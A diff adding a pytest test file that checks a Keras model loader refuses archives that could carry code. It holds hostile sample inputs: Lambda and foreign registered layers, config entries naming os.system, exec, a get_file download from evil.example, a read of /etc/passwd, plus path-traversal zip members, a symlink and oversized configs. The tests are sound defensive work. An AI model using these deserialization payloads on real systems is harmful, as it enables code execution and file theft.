@@ -1,0 +1,206 @@
+"""A best.keras that carries code, or is none: built for real with Keras, refused in a sentence, never run."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from dhc.explain.sealed import refuse_strange
+from dhc.jobs import evaluation
+from dhc.runs import rundir
+from dhc.runs.rundir import RunError
+from dhc.runs.store import Store
+from faults.cases import case
+from faults.house import EPOCHS, VICTIM, House, house, no_waiting
+
+__all__ = ["house", "no_waiting"]
+
+ROOT = Path(__file__).resolve().parents[2]
+MARK = "code-ran"
+BUILD = """
+import os, sys, keras
+from keras import layers as kl
+mark = os.path.join(os.path.dirname(os.path.dirname(sys.argv[1])), "code-ran")
+
+@keras.saving.register_keras_serializable("evil")
+class Evil(kl.Layer):
+    def call(self, x):
+        return x
+
+x = inputs = keras.Input((64, 64, 3), dtype="uint8")
+x = kl.Flatten()(kl.Rescaling(1 / 255)(x))
+if sys.argv[2] == "lambda":
+    x = kl.Lambda(lambda x, mark=mark: (__import__("os").makedirs(mark, exist_ok=True), x)[1])(x)
+if sys.argv[2] == "registered":
+    x = Evil()(x)
+keras.Model(inputs, kl.Dense(3, activation="softmax", dtype="float32")(x)).save(sys.argv[1])
+if os.path.exists(mark):
+    os.rmdir(mark)
+"""
+
+
+def build(house: House, what: str) -> Path:
+    """A real network of Keras as the victim's best.keras: "plain", with a "lambda", or with a "registered" layer of its own."""
+    path = house.folder / rundir.BEST
+    environment = {**os.environ, "KERAS_BACKEND": "tensorflow", "TF_CPP_MIN_LOG_LEVEL": "3"}
+    subprocess.run([sys.executable, "-c", BUILD, str(path), what], check=True, env=environment, capture_output=True)
+    return path
+
+
+def evaluate(house: House) -> str:
+    """What `python -m dhc evaluate … --split test` says, which must be one sentence and status 2."""
+    command = [sys.executable, "-m", "dhc", "evaluate", VICTIM, "--runs", str(house.runs), "--split", "test"]
+    done = subprocess.run(
+        command, cwd=ROOT, capture_output=True, text=True, env={**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3"}
+    )
+    assert done.returncode == 2, done.stderr
+    assert done.stdout == ""
+    return done.stderr
+
+
+def rewrite(path: Path, change: Callable[[dict[str, Any]], None]) -> None:
+    """The archive with another config.json."""
+    with zipfile.ZipFile(path) as archive:
+        members = {name: archive.read(name) for name in archive.namelist()}
+    config = json.loads(members["config.json"])
+    change(config)
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, data in (members | {"config.json": json.dumps(config).encode()}).items():
+            archive.writestr(name, data)
+
+
+@pytest.mark.slow
+@case(
+    "a best.keras with a Lambda layer",
+    done="saved by Keras with code in it; then `evaluate` and `predict`",
+    state="finished",
+    says="holds “keras.layers.Lambda”, which no network of ours has",
+)
+def test_a_network_with_a_lambda(house: House) -> None:
+    refuse_strange(build(house, "plain"))  # what a run of ours could have saved is let through
+    build(house, "lambda")
+    assert "best.keras of run" in (said := evaluate(house))
+    assert "it holds “keras.layers.Lambda”, which no network of ours has" in said
+    command = ["predict", VICTIM, "--split", "val", "--out", str(house.runs / "out.csv"), "--runs", str(house.runs)]
+    done = subprocess.run([sys.executable, "-m", "dhc", *command], cwd=ROOT, capture_output=True, text=True)
+    assert done.returncode == 2
+    assert "keras.layers.Lambda" in done.stderr
+    assert not (house.runs / MARK).exists()
+    assert not (house.runs / "out.csv").exists()
+    assert house.read().epochs_done == EPOCHS
+
+
+@pytest.mark.slow
+@case(
+    "a best.keras with a foreign registered layer",
+    done="saved by Keras with a class registered elsewhere",
+    says="which no network of ours has",
+)
+def test_a_network_with_a_registered_object(house: House) -> None:
+    build(house, "registered")
+    assert "Evil”, which no network of ours has" in evaluate(house)
+
+
+ATTACKS: dict[str, dict[str, Any]] = {
+    "system": {"module": "os", "class_name": "system", "config": "mkdir code-ran", "registered_name": None},
+    "function": {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"},
+    "get_file": {"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://evil.example/x"}},
+    "lookup": {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}},
+    "lambda": {"class_name": "__lambda__", "config": {"value": "abc"}},
+    "registered": {"module": "keras.layers", "class_name": "Dense", "config": {}, "registered_name": "evil>Dense"},
+    "typed": {"module": ["os"], "class_name": {"x": 1}},
+}
+
+
+@pytest.mark.slow
+@case(
+    "a best.keras that names functions",
+    done="os.system, exec, get_file, StringLookup of /etc/passwd, … put into the config of a real one",
+    says="could carry code, so it was not loaded",
+)
+def test_a_network_that_names_functions(house: House) -> None:
+    path = build(house, "plain")
+    whole = path.read_bytes()
+    for attack in ATTACKS.values():
+        path.write_bytes(whole)
+        rewrite(path, lambda config, attack=attack: config["config"]["layers"].append(attack))  # type: ignore[misc]
+        with pytest.raises(RunError, match="could carry code, so it was not loaded"):
+            refuse_strange(path)
+        path.write_bytes(whole)
+        rewrite(path, lambda config, attack=attack: config["config"]["layers"][-1]["config"].update(activation=attack))  # type: ignore[misc]
+        with pytest.raises(RunError, match="could carry code, so it was not loaded"):
+            refuse_strange(path)
+    assert "could carry code" in evaluate(house)
+
+
+def archive(path: Path, **members: bytes) -> None:
+    """A zip with those members besides what a .keras archive has."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
+        for name, data in ({"metadata.json": b"{}", "config.json": b"{}", "model.weights.h5": b""} | members).items():
+            file.writestr(name, data)
+
+
+@case(
+    "a best.keras that would write elsewhere",
+    done="members ../../x, /tmp/x and assets/x in the archive",
+    says="which no run writes into it",
+)
+def test_members_that_leave_the_archive(house: House) -> None:
+    for name in ("../../evil.txt", "/tmp/evil.txt", "assets/evil.txt", "x" * 300):
+        archive(house.folder / rundir.BEST, **{name: b"x"})
+        with pytest.raises(RunError, match="which no run writes into it") as caught:
+            refuse_strange(house.folder / rundir.BEST)
+        assert len(str(caught.value)) < 200
+
+
+@case(
+    "a best.keras that is none",
+    done="empty, text, half an archive, deep JSON, a bomb, a pipe, a folder, a link",
+    says="it is damaged; it cannot be read",
+)
+def test_a_network_that_is_none(house: House, tmp_path: Path) -> None:
+    path = house.folder / rundir.BEST
+    archive(tmp_path / "whole")
+    for data in (b"", b"text", (tmp_path / "whole").read_bytes()[:100], b"\x89HDF\r\n\x1a\n" + bytes(500)):
+        path.write_bytes(data)
+        with pytest.raises(RunError, match="it is damaged"):
+            refuse_strange(path)
+    archive(path, **{"config.json": b"[" * 100_000})
+    with pytest.raises(RunError, match=r"cannot be read \(RecursionError\)"):
+        refuse_strange(path)
+    archive(path, **{"config.json": b" " * 100_000_000})
+    with pytest.raises(RunError, match="more than any network of ours"):
+        refuse_strange(path)
+    for make in (os.mkfifo, Path.mkdir, lambda p: p.symlink_to("/etc/passwd")):
+        path.rmdir() if path.is_dir() and not path.is_symlink() else path.unlink()
+        make(path)
+        with pytest.raises(RunError, match="cannot be read"):
+            refuse_strange(path)
+    assert Store(house.runs).run(VICTIM).epochs_done == EPOCHS
+
+
+@pytest.mark.slow
+@case(
+    "judging a network that carries code",
+    done="the page's own evaluation in the background is asked of a run with a Lambda",
+    says="the refusal, as why it failed",
+)
+def test_the_background_judgement_says_why_it_failed(house: House) -> None:
+    import time
+
+    build(house, "lambda")
+    evaluation.ask(house.folder)
+    end = time.monotonic() + 50
+    while (found := evaluation.evaluation(house.folder)) is None or found.pending:
+        assert time.monotonic() < end
+        time.sleep(0.2)
+    assert "keras.layers.Lambda" in found.failed
+    assert not (house.runs / MARK).exists()
